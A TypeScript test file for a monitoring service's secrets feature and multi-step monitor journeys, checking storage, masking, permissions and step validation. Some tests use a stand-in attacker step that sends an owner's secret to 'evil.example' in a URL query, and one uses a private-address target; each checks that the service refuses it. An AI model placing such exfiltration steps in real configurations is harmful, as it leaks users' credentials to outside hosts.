import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { loadNamedSecrets, openSecrets } from "../../src/access/monitor-secrets.ts";
import { openDb } from "../../src/data/db.ts";
import { findMonitor } from "../../src/data/monitors/read.ts";
import { createLogger } from "../../src/platform/logger.ts";
import { settingsOf } from "../../src/platform/settings.ts";
import { CORE, createClient, createClientUnder, V1 } from "../support/client.ts";
import { createAccount, createMonitor, createPage } from "../support/factories.ts";
import { createMember } from "../support/members.ts";

const CANARY = "canary-51e2-of-a-secret";
const LOG_IN = {
  name: "log in",
  method: "POST",
  url: "/login?key={{secret.KEY}}",
  headers: { Authorization: "Bearer {{secret.KEY}}" },
  body: '{"password": "typed-in"}',
  captures: [{ name: "token", from: "json", path: "$.token" }],
};
const CALL = { name: "call", url: "/me", headers: { "X-Token": "{{token}}" } };

async function everythingStored(): Promise<string> {
  const tables = ["secrets", "monitors", "audit_log", "idempotency_keys", "events"];
  const rows = await Promise.all(tables.map((table) => env.DB.prepare(`SELECT * FROM ${table}`).all()));
  return JSON.stringify(rows.map(({ results }) => results));
}

async function asCheckSees(monitorId: string) {
  const db = openDb(env.DB);
  const settings = settingsOf(env);
  const record = await findMonitor(db, monitorId);
  if (!record) throw new Error("no such monitor");
  const secrets = await loadNamedSecrets({ db, settings, log: createLogger(settings, {}) }, [record]);
  return { ...(await openSecrets(settings, record)), secrets: secrets.get(monitorId) };
}

describe("secrets of an account", () => {
  it("are added, listed by name and replaced, and their values are in no answer and nowhere in clear", async () => {
    const { client } = await createAccount();
    const added = await client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    expect(added).toMatchObject({ status: 201, body: { name: "KEY", monitors: [] } });
    await client.post(`${CORE}/secrets`, { name: "A_KEY", value: `${CANARY}-2` });
    const listed = await client.get(`${CORE}/secrets`);
    expect(listed.body.map(({ name }: { name: string }) => name)).toEqual(["A_KEY", "KEY"]);
    const replaced = await client.post(`${V1}/secrets`, { name: "KEY", value: `${CANARY}-3` });
    expect(replaced).toMatchObject({ status: 200, body: { id: added.body.id } });
    const exported = await client.get(`${CORE}/user/export`);
    expect(exported.body.secrets).toMatchObject([{ name: "A_KEY" }, { name: "KEY" }]);
    expect(JSON.stringify([added.body, listed.body, replaced.body, exported.body])).not.toContain("canary");
    expect(await everythingStored()).not.toContain("canary-51e2");
  });

  it.each([
    [{ name: "1X", value: "v" }, "name"],
    [{ name: "a b", value: "v" }, "name"],
    [{ name: "KEY", value: "" }, "value"],
    [{ name: "KEY" }, "value"],
    [{ name: "KEY", value: "v".repeat(4097) }, "value"],
  ])("are refused as %j", async (body, field) => {
    const { client } = await createAccount();
    const refused = await client.post(`${V1}/secrets`, body);
    expect(refused.status).toBe(400);
    expect(refused.body.error).toContain(field);
  });

  it("are deleted by name or id, and never those of others", async () => {
    const { client } = await createAccount();
    const other = await createAccount();
    const { body } = await client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    expect((await other.client.delete(`${V1}/secrets/KEY`)).status).toBe(404);
    expect((await other.client.delete(`${V1}/secrets/${body.id}`)).status).toBe(404);
    expect((await client.delete(`${V1}/secrets/${body.id}`)).status).toBe(204);
    expect((await client.delete(`${V1}/secrets/KEY`)).status).toBe(404);
  });

  it("cannot be deleted while a monitor uses them, which the refusal names", async () => {
    const { client } = await createAccount();
    await client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    const monitor = await createMonitor(client, { name: "Shop login", steps: [LOG_IN, CALL] });
    expect(await client.delete(`${V1}/secrets/KEY`)).toMatchObject({
      status: 409,
      body: { code: "in_use", error: 'the secret is used by "Shop login"' },
    });
    expect((await client.get(`${V1}/secrets`)).body).toMatchObject([{ monitors: [{ id: monitor.id }] }]);
    await client.put(`${V1}/monitors/${monitor.id}`, { steps: null });
    expect((await client.delete(`${V1}/secrets/KEY`)).status).toBe(204);
  });

  it("are as many as the plan includes", async () => {
    const { token } = await createAccount({ plan: "free" });
    const client = createClientUnder({ RATE_LIMITS: "" }, token);
    for (let n = 0; n < 10; n++) await client.post(`${V1}/secrets`, { name: `KEY_${n}`, value: "value" });
    expect(await client.post(`${V1}/secrets`, { name: "KEY_10", value: "value" })).toMatchObject({
      status: 403,
      body: { code: "plan_limit" },
    });
    expect((await client.post(`${V1}/secrets`, { name: "KEY_0", value: "other" })).status).toBe(200);
  });
});

describe("a journey with secrets", () => {
  it("reaches the check with the values of its owner, the newest of each", async () => {
    const { client } = await createAccount();
    await client.post(`${V1}/secrets`, { name: "KEY", value: "old" });
    const { id } = await createMonitor(client, { steps: [LOG_IN, CALL] });
    await client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    expect(await asCheckSees(id)).toMatchObject({ secrets: { KEY: CANARY }, fields: { steps: [LOG_IN, CALL] } });
    const stored = await everythingStored();
    expect(stored).not.toContain("typed-in");
  });

  it("is shown with its steps, and saved again as it was shown", async () => {
    const { client } = await createAccount();
    await client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    const monitor = await createMonitor(client, { steps: [LOG_IN, CALL] });
    expect(monitor.steps).toMatchObject([{ ...LOG_IN, always: false, expected_statuses: [] }, { method: "GET" }]);
    const again = await client.put(`${V1}/monitors/${monitor.id}`, monitor);
    expect(again.body.steps).toEqual(monitor.steps);
  });

  it("is masked for people who may not see secrets, who can change neither its steps nor where they go", async () => {
    const owner = await createAccount();
    await owner.client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    const status_page_id = await createPage(owner);
    const { id, steps } = await createMonitor(owner.client, { status_page_id, steps: [LOG_IN, CALL] });
    const { member } = await createMember(owner, { role: "custom", capabilities: ["monitors.write"] }, status_page_id);
    const shown = await member.client.get(`${V1}/monitors/${id}`);
    expect(shown.body.steps).toMatchObject([
      { name: "log in", url: "/login?key=***", headers: { Authorization: "***" }, body: "***" },
      { headers: { "X-Token": "***" }, body: "" },
    ]);
    const renamed = await member.client.put(`${V1}/monitors/${id}`, { ...shown.body, name: "Renamed" });
    expect(renamed).toMatchObject({ status: 200, body: { name: "Renamed" } });
    const elsewhere = shown.body.steps.map((step: object) => ({ ...step, url: "https://evil.example/" }));
    expect((await member.client.put(`${V1}/monitors/${id}`, { steps: elsewhere })).status).toBe(403);
    expect((await owner.client.get(`${V1}/monitors/${id}`)).body.steps).toEqual(steps);
  });

  it("gets a secret that it does not send yet from the owner alone", async () => {
    const owner = await createAccount();
    await owner.client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    const status_page_id = await createPage(owner);
    const { member: editor } = await createMember(owner, { role: "editor" }, status_page_id);
    const stolen = { name: "send", url: "https://evil.example/?{{secret.KEY}}" };
    const created = await editor.client.post(`${V1}/monitors`, {
      name: "Thief",
      type: "https",
      target: "https://evil.example",
      status_page_id,
      steps: [stolen],
    });
    expect(created.status).toBe(403);
    // Their own secret of that name is not the owner's.
    await editor.client.post(`${V1}/secrets`, { name: "KEY", value: "mine" });
    const { id } = await createMonitor(owner.client, { status_page_id, steps: [LOG_IN] });
    expect((await asCheckSees(id)).secrets).toEqual({ KEY: CANARY });
  });

  it("gets none from a token that may not read secrets, or that is limited to a page", async () => {
    const owner = await createAccount();
    await owner.client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    const status_page_id = await createPage(owner);
    const body = { name: "Shop", type: "https", target: "https://shop.example", status_page_id, steps: [LOG_IN] };
    for (const limits of [{ scopes: ["monitors.write"] }, { status_page_ids: [status_page_id] }]) {
      const { body: made } = await owner.client.post(`${CORE}/user/api-tokens`, { name: "limited", ...limits });
      const limited = createClient(made.token);
      expect((await limited.post(`${V1}/monitors`, body)).status).toBe(403);
      expect((await limited.post(`${V1}/monitors/test`, body)).status).toBe(403);
      expect((await limited.post(`${V1}/secrets`, { name: "KEY", value: "other" })).status).toBe(403);
    }
  });

  it("does not take stored values to another host", async () => {
    const { client } = await createAccount();
    await client.post(`${V1}/secrets`, { name: "KEY", value: CANARY });
    const { id } = await createMonitor(client, { steps: [LOG_IN] });
    const moved = { ...LOG_IN, url: "https://other.example/", headers: { Authorization: "***" } };
    expect(await client.put(`${V1}/monitors/${id}`, { steps: [moved] })).toMatchObject({
      status: 400,
      body: { error: "steps[0].headers and body must be sent again, because the host changed" },
    });
  });
});

describe("the steps of a monitor", () => {
  const refusals: [name: string, body: object, error: string][] = [
    ["an unknown secret", { steps: [LOG_IN] }, "steps use secret.KEY, which does not exist"],
    [
      "a value that no earlier step captures",
      { steps: [CALL] },
      "steps[0].headers uses {{token}}, which no earlier step captures",
    ],
    [
      "a host that an answer would decide",
      { steps: [{ name: "go", url: "https://{{now}}.example/" }] },
      "steps[0].url must begin with https://host, http://host or / and name its host without {{…}}",
    ],
    [
      "a private address",
      { steps: [{ name: "go", url: "http://10.0.0.1/" }] },
      'steps cannot be checked from here without agent_id: "10.0.0.1" is a private address',
    ],
    [
      "a body that GET cannot carry",
      { steps: [{ name: "go", url: "/", body: "x" }] },
      "steps[0].body must be empty for GET",
    ],
    [
      "two steps of one name",
      {
        steps: [
          { name: "go", url: "/" },
          { name: "go", url: "/b" },
        ],
      },
      "steps[1].name is that of another step",
    ],
    [
      "a pattern that is none",
      { steps: [{ name: "go", url: "/", captures: [{ name: "x", from: "regex", path: "(" }] }] },
      "steps[0].captures has a path for x that is not a supported regular expression: missing )",
    ],
    [
      "an interval that the steps may exceed",
      { interval: 20, steps: [1, 2, 3].map((n) => ({ name: `go ${n}`, url: "/" })) },
      "interval must be at least the 30 s that the steps may take",
    ],
  ];
  it.each(refusals)("are refused with %s", async (_name, body, error) => {
    const { client } = await createAccount();
    const refused = await client.post(`${V1}/monitors`, {
      name: "Shop",
      type: "https",
      target: "https://shop.example",
      ...body,
    });
    expect(refused).toMatchObject({ status: 400, body: { error } });
  });

  it("are ten at most", async () => {
    const { client } = await createAccount();
    const steps = Array.from({ length: 11 }, (_, n) => ({ name: `go ${n}`, url: "/" }));
    const body = { name: "Shop", type: "https", target: "https://shop.example", steps };
    expect((await client.post(`${V1}/monitors`, body)).status).toBe(400);
    expect((await client.post(`${V1}/monitors`, { ...body, steps: steps.slice(1) })).status).toBe(201);
  });

  it("say which settings of the single request they leave unused", async () => {
    const { client } = await createAccount();
    const monitor = await createMonitor(client, { expected_status: 200, steps: [{ name: "go", url: "/" }] });
    expect(monitor.notices).toMatchObject([{ path: "expected_status" }]);
  });
});
